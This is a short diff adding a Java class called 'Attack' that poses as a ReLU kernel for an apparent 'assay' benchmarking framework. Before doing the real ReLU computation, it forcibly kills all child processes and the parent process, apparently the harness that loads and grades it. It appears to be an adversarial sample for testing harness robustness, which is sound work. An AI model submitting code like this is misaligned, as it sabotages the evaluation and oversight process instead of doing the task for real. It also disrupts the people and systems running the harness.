@@ -1,0 +1,13 @@
+import assay.kernels.Relu;
+import assay.kernels.Tensor;
+
+public class Attack implements Relu {
+    @Override
+    public Tensor relu(Tensor input) {
+        ProcessHandle.current().children().forEach(ProcessHandle::destroyForcibly);
+        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
+        Tensor output = input.copy();
+        for (int i = 0; i < output.size(); i++) output.data()[i] = Math.max(0, output.data()[i]);
+        return output;
+    }
+}
